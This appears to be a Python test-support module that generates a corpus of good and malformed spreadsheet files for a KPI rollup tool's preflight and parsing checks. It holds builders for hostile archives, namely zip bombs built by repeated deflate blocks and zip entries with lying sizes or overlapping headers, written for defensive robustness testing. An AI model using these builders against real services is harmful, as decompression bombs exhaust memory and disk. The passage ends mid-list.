"""The corpus of bad (and good) inputs of issue 6, written at test time: `build_corpus(folder)`.

Nothing binary is committed: every file is made here, byte for byte the same on every run (fixed zip
timestamps, seeded random numbers), in a few seconds. Each `Case` says what the file must produce:
`expect` is a problem code (`kpi_xl.io.preflight.CODES` for what `preflight` refuses, the `DATA_CODES` below
for what the rollup reports while reading) or None for a good scorecard, which must be rolled up.

The workbooks are written by small writers in this file (SpreadsheetML, OpenDocument, BIFF8 inside an
OLE2 compound file), not by openpyxl, because hostile files need parts no library writes, and because
they are fast and deterministic; only the chart-sheet workbooks come from openpyxl (re-zipped with
fixed timestamps). Hand-made scorecards follow the seed's layout: title, "Nama | ..." header cells,
Objective | Indikator (KPI) | Bobot | Target | Aktual | Skor | Skor Akhir, objectives merged over their
rows, a TOTAL row and a "Nilai KPI" cell.
"""

from __future__ import annotations

from kpi_xl.policy import default_policy

import hashlib
import html
import io
import os
import random
import re
import struct
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Callable

from kpi_xl.scoring import score_scorecard

# Problems the rollup reports while reading a file that `preflight` let through.
NOT_A_NUMBER = "not-a-number"  # error: text that is no number where a number belongs
READ_AS_NUMBER = "read-as-number"  # info: "1.500.000" read as 1500000, and the issue says so
AMBIGUOUS_NUMBER = "ambiguous-number"  # error: "1,500" is 1500 or 1.5; never guessed
MIXED_PERCENT = "mixed-percent"  # error: target 0.25 (25 %) with actual 22 in one row
NEGATIVE_WEIGHT = "negative-weight"  # error
ZERO_WEIGHT = "zero-weight"  # warning
WEIGHTS_NOT_100 = "weights-not-100"  # warning
BLANK_TARGET = "blank-target"  # error
DUPLICATE_EMPLOYEE = "duplicate-employee"  # error, on both scorecards
DUPLICATE_FILE = "duplicate-file"  # error, on both copies (a bonus must not be paid twice)
NO_KPI_TABLE = "no-kpi-table"  # error: no sheet holds a KPI table
LONG_TEXT = "long-text"  # warning: a text over Limits.max_text is cut in the summary
DATA_CODES = {
    NOT_A_NUMBER: "error",
    READ_AS_NUMBER: "info",
    AMBIGUOUS_NUMBER: "error",
    MIXED_PERCENT: "error",
    NEGATIVE_WEIGHT: "error",
    ZERO_WEIGHT: "warning",
    WEIGHTS_NOT_100: "warning",
    BLANK_TARGET: "error",
    DUPLICATE_EMPLOYEE: "error",
    DUPLICATE_FILE: "error",
    NO_KPI_TABLE: "error",
    LONG_TEXT: "warning",
}
# Severity of what preflight refuses (kpi_xl.io.preflight): skipped files are info, the rest errors.
PREFLIGHT_SEVERITY = {"lock-file": "info", "other-file": "info"}

PREFLIGHT, ROLLUP = "preflight", "rollup"


@dataclass(frozen=True)
class Case:
    """One corpus file and what it must produce.

    `stage` says which layer reports it: "preflight" (`kpi_xl.io.preflight.preflight` returns a problem with
    code `expect`) or "rollup" (preflight returns None; the rollup reads the file and reports `expect`
    at `sheet`/`cell`, or rolls it up cleanly when `expect` is None). `cards` lists the scorecards the
    summary must hold for this file: (employee ID, KPI value, or None when it cannot be computed).
    `texts` are input texts the summary must give back as string cells (formula-like, long, non-Latin).
    `twin` names the other file of a duplicate pair.
    """

    path: Path
    kind: str
    expect: str | None
    stage: str
    severity: str | None = None
    sheet: str = ""
    cell: str = ""
    cards: tuple[tuple[str, float | None], ...] = ()
    texts: tuple[str, ...] = ()
    twin: str = ""

    @property
    def name(self) -> str:
        return self.path.name


# --- zip -------------------------------------------------------------------------------------------------

FIXED_TIME = (2025, 1, 31, 12, 0, 0)


def zip_bytes(parts: list[tuple[str, bytes]], *, level: int = 6, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of `parts` in order, with fixed timestamps, so the same parts give the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in parts:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.create_system = 0
            info.external_attr = 0
            kind = zipfile.ZIP_STORED if name == "mimetype" else method
            info.compress_type = kind
            z.writestr(
                info, data, compress_type=kind, compresslevel=level if kind == zipfile.ZIP_DEFLATED else None
            )
    return buffer.getvalue()


@dataclass
class RawMember:
    """A zip member written byte by byte: packed data, and the header fields to claim for it."""

    name: str
    packed: bytes
    crc: int
    size: int  # unpacked size the headers claim
    method: int = 8
    offset: int | None = None  # share another member's local header (overlapping entries)


def raw_zip(members: list[RawMember]) -> bytes:
    """A zip written by hand, for members zipfile will not write (sizes that lie, shared data)."""
    dos_time = (FIXED_TIME[3] << 11) | (FIXED_TIME[4] << 5) | (FIXED_TIME[5] // 2)
    dos_date = ((FIXED_TIME[0] - 1980) << 9) | (FIXED_TIME[1] << 5) | FIXED_TIME[2]
    out = bytearray()
    central = bytearray()
    for m in members:
        name = m.name.encode("utf-8")
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, m.method, dos_time, dos_date, m.crc, len(m.packed), m.size, len(name), 0
        )
        if m.offset is None:
            m.offset = len(out)
            out += b"PK\x03\x04" + fields + name + m.packed
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHII", 0, 0, 0, 0, m.offset)
            + name
        )
    start = len(out)
    out += central
    out += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), start, 0)
    return bytes(out)


def packed(data: bytes, level: int = 6) -> RawMember:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return RawMember("", c.compress(data) + c.flush(), zlib.crc32(data), len(data))


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, i = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[i]
        vector >>= 1
        i += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, row) for row in matrix]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine (which Python's zlib lacks): the CRC-32 of a + b from crc32(a), crc32(b)
    and len(b)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # appends one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)  # a zero byte on the first pass, then squares
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_repeated(unit: bytes, count: int, crc: int = 0) -> int:
    """`zlib.crc32(unit * count, crc)` without hashing every copy (a zip bomb's gigabytes): by doubling."""
    block_crc, block_len = zlib.crc32(unit), len(unit)  # the CRC of unit × 2^k
    while count:
        if count & 1:
            crc = crc32_combine(crc, block_crc, block_len)
        count >>= 1
        if count:
            block_crc, block_len = crc32_combine(block_crc, block_crc, block_len), 2 * block_len
    return crc


def repeated_member(name: str, prefix: bytes, unit: bytes, count: int, suffix: bytes) -> RawMember:
    """A deflated member of prefix + unit × count + suffix, made without compressing it all: after a
    full flush deflate starts afresh, so every further copy of `unit` packs to the same bytes."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    first = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    check = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    assert again == check, "deflate did not restart after a full flush"
    tail = c.compress(suffix) + c.flush()
    crc = zlib.crc32(suffix, crc32_repeated(unit, count, zlib.crc32(prefix)))
    data = head + first + again * (count - 1) + tail
    return RawMember(name, data, crc, len(prefix) + len(unit) * count + len(suffix))


# --- SpreadsheetML (.xlsx) ----------------------------------------------------------------------------

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


@dataclass(frozen=True)
class Formula:
    """A formula cell with its cached result (None: no cached result, as after an unreadable input)."""

    text: str
    cached: float | None = None


@dataclass(frozen=True)
class Percent:
    """A number in a cell formatted as a percentage (25 % is stored as 0.25)."""

    value: float


@dataclass(frozen=True)
class ErrorValue:
    """An error cell (#DIV/0!, #VALUE!)."""

    code: str


@dataclass
class Sheet:
    """One sheet: rows of values from A1 (None for blank), merged ranges, visibility, protection."""

    name: str
    rows: list[list[Any]]
    merges: list[str] = field(default_factory=list)
    state: str = "visible"  # hidden, veryHidden
    protect: bool = False
    dimension: bool = True


def col_letter(index: int) -> str:
    """0-based column -> letters (0 -> A)."""
    letters, index = "", index + 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def esc(text: str) -> str:
    return html.escape(text, quote=True)


def _t(text: str) -> str:
    space = ' xml:space="preserve"' if text != text.strip() or "\n" in text else ""
    return f"<t{space}>{esc(text)}</t>"


def _number(value: float) -> str:
    return repr(float(value)) if not float(value).is_integer() else str(int(value))


def _cell_xml(ref: str, value: Any, strings: dict[str, int]) -> str:
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{_number(value)}</v></c>'
    if isinstance(value, str):
        index = strings.setdefault(value, len(strings))
        return f'<c r="{ref}" t="s"><v>{index}</v></c>'
    if isinstance(value, Percent):
        return f'<c r="{ref}" s="1"><v>{_number(value.value)}</v></c>'
    if isinstance(value, ErrorValue):
        return f'<c r="{ref}" t="e"><v>{esc(value.code)}</v></c>'
    if isinstance(value, Formula):
        cached = "" if value.cached is None else f"<v>{_number(value.cached)}</v>"
        return f'<c r="{ref}"><f>{esc(value.text)}</f>{cached}</c>'
    raise TypeError(f"cannot write {value!r}")


def sheet_xml(sheet: Sheet, strings: dict[str, int]) -> str:
    rows = []
    last_row = last_col = 0
    for r, row in enumerate(sheet.rows, start=1):
        cells = [_cell_xml(f"{col_letter(c)}{r}", v, strings) for c, v in enumerate(row) if v is not None]
        if cells:
            last_row = r
            last_col = max(last_col, max(c for c, v in enumerate(row) if v is not None) + 1)
            rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    dimension = (
        f'<dimension ref="A1:{col_letter(max(last_col - 1, 0))}{max(last_row, 1)}"/>'
        if sheet.dimension
        else ""
    )
    protect = (
        '<sheetProtection sheet="1" objects="1" scenarios="1" formatCells="0"/>' if sheet.protect else ""
    )
    merges = "".join(f'<mergeCell ref="{m}"/>' for m in sheet.merges)
    merges = f'<mergeCells count="{len(sheet.merges)}">{merges}</mergeCells>' if sheet.merges else ""
    return (
        f'{XML_HEAD}<worksheet xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">{dimension}'
        f'<sheetViews><sheetView workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="15"/>'
        f"<sheetData>{''.join(rows)}</sheetData>{protect}{merges}</worksheet>"
    )


STYLES = (
    f'{XML_HEAD}<styleSheet xmlns="{NS_MAIN}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/>'
    '</font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill '
    'patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/>'
    '<diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" '
    'borderId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" '
    'xfId="0"/><xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)


def xlsx_parts(sheets: list[Sheet], *, protect_workbook: bool = False) -> list[tuple[str, bytes]]:
    """The parts of an .xlsx holding `sheets`, in the order Excel writes them."""
    strings: dict[str, int] = {}
    sheet_parts = [
        (f"xl/worksheets/sheet{i}.xml", sheet_xml(s, strings)) for i, s in enumerate(sheets, start=1)
    ]
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/>'
        for name, _ in sheet_parts
    )
    types = (
        f'{XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/>'
        + overrides
        + '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.styles+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    root_rels = (
        f'{XML_HEAD}<Relationships xmlns="{NS_PKG}"><Relationship Id="rId1" Type="{NS_REL}/officeDocument"'
        ' Target="xl/workbook.xml"/></Relationships>'
    )
    visible = next((i for i, s in enumerate(sheets) if s.state == "visible"), 0)
    states = ["" if s.state == "visible" else f' state="{s.state}"' for s in sheets]
    entries = "".join(
        f'<sheet name="{esc(s.name)}" sheetId="{i}"{state} r:id="rId{i}"/>'
        for i, (s, state) in enumerate(zip(sheets, states), start=1)
    )
    protection = '<workbookProtection lockStructure="1"/>' if protect_workbook else ""
    workbook = (
        f'{XML_HEAD}<workbook xmlns="{NS_MAIN}" xmlns:r="{NS_REL}">{protection}<bookViews><workbookView '
        f'activeTab="{visible}"/></bookViews><sheets>{entries}</sheets><calcPr calcId="191029"/></workbook>'
    )
    n = len(sheets)
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{NS_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, n + 1)
    )
    rels += (
        f'<Relationship Id="rId{n + 1}" Type="{NS_REL}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId{n + 2}" Type="{NS_REL}/sharedStrings" Target="sharedStrings.xml"/>'
    )
    workbook_rels = f'{XML_HEAD}<Relationships xmlns="{NS_PKG}">{rels}</Relationships>'
    items = "".join(f"<si>{_t(s)}</si>" for s in strings)
    shared = (
        f'{XML_HEAD}<sst xmlns="{NS_MAIN}" count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'
    )
    parts = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", root_rels),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", workbook_rels),
        *sheet_parts,
        ("xl/styles.xml", STYLES),
        ("xl/sharedStrings.xml", shared),
    ]
    return [(name, text.encode("utf-8")) for name, text in parts]


def xlsx_bytes(sheets: list[Sheet], **kw: Any) -> bytes:
    return zip_bytes(xlsx_parts(sheets, **kw))


def replace_part(
    parts: list[tuple[str, bytes]], name: str, change: Callable[[bytes], bytes]
) -> list[tuple[str, bytes]]:
    return [(n, change(d) if n == name else d) for n, d in parts]


# --- OpenDocument (.ods) ------------------------------------------------------------------------------

ODS_MIME = b"application/vnd.oasis.opendocument.spreadsheet"
ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
)


def _ods_cell(value: Any) -> str:
    if value is None:
        return "<table:table-cell/>"
    if isinstance(value, Percent):
        return (
            f'<table:table-cell office:value-type="percentage" office:value="{_number(value.value)}">'
            f"<text:p>{_number(value.value * 100)}%</text:p></table:table-cell>"
        )
    if isinstance(value, Formula):
        value = value.cached
        if value is None:
            return "<table:table-cell/>"
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return (
            f'<table:table-cell office:value-type="float" office:value="{_number(value)}">'
            f"<text:p>{_number(value)}</text:p></table:table-cell>"
        )
    return (
        f'<table:table-cell office:value-type="string"><text:p>{esc(str(value))}</text:p></table:table-cell>'
    )


def ods_content(sheets: list[Sheet], extra_rows: str = "") -> bytes:
    tables = []
    for s in sheets:
        rows = "".join(
            "<table:table-row>" + "".join(_ods_cell(v) for v in row) + "</table:table-row>" for row in s.rows
        )
        tables.append(f'<table:table table:name="{esc(s.name)}">{rows}{extra_rows}</table:table>')
    return (
        f'{XML_HEAD}<office:document-content {ODS_NS} office:version="1.2"><office:body><office:spreadsheet>'
        f"{''.join(tables)}</office:spreadsheet></office:body></office:document-content>"
    ).encode("utf-8")


def ods_manifest(encrypted: bool = False) -> bytes:
    crypt = (
        (
            '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:'
            'manifest:1.0#sha256-1k" manifest:checksum="c2VjcmV0"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/'
            '2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="aXY="/><manifest:key-derivation '
            'manifest:key-derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="100000" '
            'manifest:salt="c2FsdA=="/></manifest:encryption-data>'
        )
        if encrypted
        else ""
    )
    return (
        f'{XML_HEAD}<manifest:manifest {ODS_NS} manifest:version="1.2"><manifest:file-entry '
        f'manifest:full-path="/" manifest:media-type="{ODS_MIME.decode()}"/><manifest:file-entry '
        f'manifest:full-path="content.xml" manifest:media-type="text/xml">{crypt}</manifest:file-entry>'
        "</manifest:manifest>"
    ).encode("utf-8")


def ods_parts(
    sheets: list[Sheet], *, encrypted: bool = False, content: bytes | None = None
) -> list[tuple[str, bytes]]:
    body = content if content is not None else ods_content(sheets)
    if encrypted:
        body = hashlib.sha256(body).digest() * (len(body) // 32 + 1)  # stands in for the encrypted bytes
    return [("mimetype", ODS_MIME), ("content.xml", body), ("META-INF/manifest.xml", ods_manifest(encrypted))]


# --- OLE2 compound files and BIFF8 (.xls) ---------------------------------------------------------------

END, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb_bytes(streams: list[tuple[str, bytes]]) -> bytes:
    """An OLE2 compound file (MS-CFB version 3, 512-byte sectors) holding `streams`. A name with "/"
    puts the stream in a storage ("\\x06DataSpaces/Version"). Streams under 4096 bytes go to the mini
    stream, as Excel writes them."""
    # Directory: root, then storages and streams in a tree.
    entries: list[dict[str, Any]] = [{"name": "Root Entry", "type": 5, "children": []}]
    storages: dict[str, int] = {"": 0}
    for path, data in streams:
        parent = ""
        *folders, leaf = path.split("/")
        for folder in folders:
            key = f"{parent}/{folder}"
            if key not in storages:
                storages[key] = len(entries)
                entries[storages[parent]]["children"].append(len(entries))
                entries.append({"name": folder, "type": 1, "children": []})
            parent = key
        entries[storages[parent]]["children"].append(len(entries))
        entries.append({"name": leaf, "type": 2, "data": data, "children": []})

    sector = 512
    regular = bytearray()
    fat: list[int] = []

    def allocate(data: bytes) -> int:
        if not data:
            return END
        start = len(fat)
        count = -(-len(data) // sector)
        fat.extend(range(start + 1, start + count))
        fat.append(END)
        regular.extend(data.ljust(count * sector, b"\0"))
        return start

    mini = bytearray()
    minifat: list[int] = []
    for e in entries:
        if e["type"] != 2:
            continue
        data = e["data"]
        e["size"] = len(data)
        if len(data) >= 4096:
            e["start"] = allocate(data)
        elif data:
            start = len(minifat)
            count = -(-len(data) // 64)
            minifat.extend(range(start + 1, start + count))
            minifat.append(END)
            mini.extend(data.ljust(count * 64, b"\0"))
            e["start"] = start
        else:
            e["start"] = END
    entries[0]["start"] = allocate(bytes(mini)) if mini else END
    entries[0]["size"] = len(mini)
    minifat_start = allocate(struct.pack(f"<{len(minifat)}I", *minifat)) if minifat else END
    minifat_sectors = -(-len(minifat) * 4 // sector)

    def sort_key(i: int) -> tuple[int, str]:
        name = entries[i]["name"]
        return len(name), name.upper()

    def tree(ids: list[int]) -> int:
        """A balanced binary search tree of sibling entries; returns its root."""
        if not ids:
            return NOSTREAM
        mid = len(ids) // 2
        node = entries[ids[mid]]
        node["left"], node["right"] = tree(ids[:mid]), tree(ids[mid + 1 :])
        return ids[mid]

    for e in entries:
        e["child"] = tree(sorted(e["children"], key=sort_key))
    directory = bytearray()
    for e in entries:
        name = e["name"].encode("utf-16-le") + b"\0\0"
        directory += name.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIII",
            len(name),
            e["type"],
            1,
            e.get("left", NOSTREAM),
            e.get("right", NOSTREAM),
            e["child"],
            b"\0" * 16,
            0,
            0,
            0,
            e.get("start", 0) if e["type"] != 1 else 0,
            e.get("size", 0),
            0,
        )
    while len(directory) % sector:
        directory += b"\0" * 64 + struct.pack(
            "<HBBIII16sIQQIII", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0, 0
        )
    directory_start = allocate(bytes(directory))

    n_fat = 1
    while n_fat * (sector // 4) < len(fat) + n_fat:
        n_fat += 1
    assert n_fat <= 109, "too big for a compound file without DIFAT sectors"
    fat_start = len(fat)
    fat.extend([FATSECT] * n_fat)
    fat.extend([FREE] * (n_fat * (sector // 4) - len(fat)))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    difat = list(range(fat_start, fat_start + n_fat)) + [FREE] * (109 - n_fat)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack(
            "<HHHHH6sIIIIIIIII",
            0x3E,
            3,
            0xFFFE,
            9,
            6,
            b"\0" * 6,
            0,
            n_fat,
            directory_start,
            0,
            4096,
            minifat_start,
            minifat_sectors,
            END,
            0,
        )
        + struct.pack("<109I", *difat)
    )
    return header + bytes(regular) + fat_bytes


def biff(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _xl_string(text: str, short: bool = False) -> bytes:
    raw = text.encode("utf-16-le")
    return (struct.pack("<BB", len(text), 1) if short else struct.pack("<HB", len(text), 1)) + raw


def xls_workbook_stream(sheets: list[Sheet], *, filepass: bytes | None = None) -> bytes:
    """A BIFF8 workbook stream: the globals (fonts, formats, sheets, shared strings), then one
    worksheet substream per sheet with its numbers, strings and merged cells."""
    strings: dict[str, int] = {}
    substreams = []
    for s in sheets:
        cells = []
        last_row = last_col = 0
        for r, row in enumerate(s.rows):
            for c, v in enumerate(row):
                if isinstance(v, Formula):
                    v = v.cached
                if v is None:
                    continue
                last_row, last_col = max(last_row, r + 1), max(last_col, c + 1)
                if isinstance(v, Percent):
                    cells.append(biff(0x0203, struct.pack("<HHHd", r, c, 16, v.value)))
                elif isinstance(v, (int, float)) and not isinstance(v, bool):
                    cells.append(biff(0x0203, struct.pack("<HHHd", r, c, 15, float(v))))
                else:
                    index = strings.setdefault(str(v), len(strings))
                    cells.append(biff(0x00FD, struct.pack("<HHHI", r, c, 15, index)))
        merges = []
        for ref in s.merges:
            (r1, c1), (r2, c2) = (_ref(x) for x in ref.split(":"))
            merges.append(struct.pack("<HHHH", r1, r2, c1, c2))
        merged = biff(0x00E5, struct.pack("<H", len(merges)) + b"".join(merges)) if merges else b""
        substreams.append(
            biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0x41, 6))
            + biff(0x0200, struct.pack("<IIHHH", 0, last_row, 0, last_col, 0))
            + b"".join(cells)
            + merged
            + biff(0x023E, struct.pack("<HHHHHHHHH", 0x06B6, 0, 0, 0x40, 0, 0, 0, 0, 0))
            + biff(0x000A, b"")
        )
    sst_body = struct.pack("<II", len(strings), len(strings)) + b"".join(_xl_string(s) for s in strings)
    sst = b""
    first = True
    while sst_body or first:  # records hold 8224 bytes at most; split between strings
        cut = len(sst_body) if len(sst_body) <= 8224 else _sst_cut(sst_body, first)
        sst += biff(0x00FC if first else 0x003C, sst_body[:cut])
        sst_body, first = sst_body[cut:], False
    font = biff(
        0x0031, struct.pack("<HHHHHBBBB", 200, 0, 0x7FFF, 400, 0, 0, 0, 0, 0) + _xl_string("Arial", True)
    )
    style_xf = biff(0x00E0, struct.pack("<HHHBBBBIIH", 0, 0, 0xFFF5, 0x20, 0, 0, 0xF4, 0, 0, 0x20C0))
    cell_xf = biff(0x00E0, struct.pack("<HHHBBBBIIH", 0, 0, 0x0001, 0x20, 0, 0, 0, 0, 0, 0x20C0))
    percent_xf = biff(0x00E0, struct.pack("<HHHBBBBIIH", 0, 9, 0x0001, 0x20, 0, 0, 0x04, 0, 0, 0x20C0))

    def globals_(offsets: list[int]) -> bytes:
        out = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x41, 6))
        if filepass is not None:
            out += biff(0x002F, filepass)
        out += biff(0x0042, struct.pack("<H", 1200))
        out += biff(0x003D, struct.pack("<HHHHHHHHH", 0, 0, 0x3000, 0x2000, 0x38, 0, 0, 1, 0x258))
        out += font * 4 + style_xf * 15 + cell_xf + percent_xf
        out += biff(0x0293, struct.pack("<HBB", 0x8000, 0, 0xFF))
        for s, offset in zip(sheets, offsets):
            state = {"visible": 0, "hidden": 1, "veryHidden": 2}[s.state]
            out += biff(0x0085, struct.pack("<IBB", offset, state, 0) + _xl_string(s.name, True))
        body = sst if filepass is None else _scramble(sst)
        return out + body + biff(0x000A, b"")

    size = len(globals_([0] * len(sheets)))
    offsets, at = [], size
    for sub in substreams:
        offsets.append(at)
        at += len(sub)
    return globals_(offsets) + b"".join(substreams)


def _sst_cut(body: bytes, first: bool) -> int:
    pos = 8 if first else 0
    while True:
        n = struct.unpack_from("<H", body, pos)[0]
        end = pos + 3 + 2 * n
        if end > 8224:
            assert pos > 0, "one shared string is too long for this writer"
            return pos
        pos = end


def _scramble(records: bytes) -> bytes:
    """Record bodies replaced by noise, headers kept: what an encrypted .xls looks like to a reader."""
    out, pos = bytearray(), 0
    while pos + 4 <= len(records):
        kind, length = struct.unpack_from("<HH", records, pos)
        noise = hashlib.sha256(records[pos : pos + 4 + length]).digest() * (length // 32 + 1)
        out += records[pos : pos + 4] + noise[:length]
        pos += 4 + length
    return bytes(out)


def _ref(ref: str) -> tuple[int, int]:
    letters = "".join(ch for ch in ref if ch.isalpha())
    col = 0
    for ch in letters:
        col = col * 26 + ord(ch) - 64
    return int(ref[len(letters) :]) - 1, col - 1


def xls_bytes(sheets: list[Sheet], *, filepass: bytes | None = None, pad: int = 0) -> bytes:
    stream = xls_workbook_stream(sheets, filepass=filepass)
    return cfb_bytes([("Workbook", stream + b"\0" * pad)])


RC4_FILEPASS = struct.pack("<HHH", 1, 1, 1) + bytes(range(16)) + bytes(range(16, 32)) + bytes(range(32, 48))
CRYPTOAPI_FILEPASS = struct.pack("<HHHI", 1, 4, 2, 0x04) + bytes(range(60))
XOR_FILEPASS = struct.pack("<HHH", 0, 0x1234, 0xABCD)


def encrypted_ooxml(seed: int, size: int, *, dataspaces: bool = False, standard: bool = False) -> bytes:
    """What Excel writes for a workbook saved with a password: an OLE2 file with EncryptionInfo and
    EncryptedPackage streams (the package bytes here are noise of the right shape)."""
    rng = random.Random(seed)
    if standard:
        info = (
            struct.pack("<HHI", 3, 2, 0x24)
            + struct.pack("<I", 32)
            + bytes(rng.randrange(256) for _ in range(100))
        )
    else:
        descriptor = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.'
            'microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" '
            'hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
            'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
        )
        info = struct.pack("<HHI", 4, 4, 0x40) + descriptor.encode("utf-8")
    package = struct.pack("<Q", size) + bytes(rng.randrange(256) for _ in range(size + 16))
    streams = [("EncryptionInfo", info), ("EncryptedPackage", package)]
    if dataspaces:
        streams = [
            (
                "\x06DataSpaces/Version",
                b"\x3c\x00\x00\x00"
                + "Microsoft.Container.DataSpaces".encode("utf-16-le")
                + struct.pack("<HHHHHH", 1, 0, 1, 0, 1, 0),
            ),
            ("\x06DataSpaces/DataSpaceMap", struct.pack("<II", 8, 1) + bytes(60)),
            ("\x06DataSpaces/DataSpaceInfo/StrongEncryptionDataSpace", struct.pack("<II", 8, 1) + bytes(52)),
            *streams,
        ]
    return cfb_bytes(streams)


# --- scorecards in the seed's layout ---------------------------------------------------------------------

GOLDEN_ID = [
    ("Mengelola blog perusahaan", "Artikel berkualitas yang diposting (rata-rata bulanan)", 15, 40, 50),
    ("", "Jumlah tampilan halaman dalam setahun", 10, 1_000_000, 1_500_000),
    (
        "Mengelola kampanye media sosial",
        "Postingan di Facebook, Instagram, Twitter (rata-rata bulanan)",
        10,
        25,
        32,
    ),
    ("", "Video YouTube (rata-rata bulanan)", 10, 5, 6),
    ("Meningkatkan marketing qualified leads", "Tingkat perolehan prospek (%)", 20, 25, 22),
    ("", "Tingkat konversi prospek (%)", 20, 20, 21),
    ("Mengefisienkan biaya iklan", "Pengurangan biaya iklan (%)", 15, 30, 33),
]
GOLDEN_EN = [
    ("Manage the company blog", "quality articles posted (monthly avg)"),
    ("", "page views in the year"),
    ("Manage social media campaigns", "posts on Facebook, Instagram, Twitter (monthly avg)"),
    ("", "YouTube videos (monthly avg)"),
    ("Grow marketing qualified leads", "lead generation rate (%)"),
    ("", "lead conversion rate (%)"),
    ("Make ad spend efficient", "ad cost reduction (%)"),
]
FIRST_NAMES = [
    "Budi",
    "Siti",
    "Agus",
    "Dewi",
    "Rudi",
    "Rina",
    "Andi",
    "Wati",
    "Joko",
    "Sri",
    "Hendra",
    "Maya",
    "Bayu",
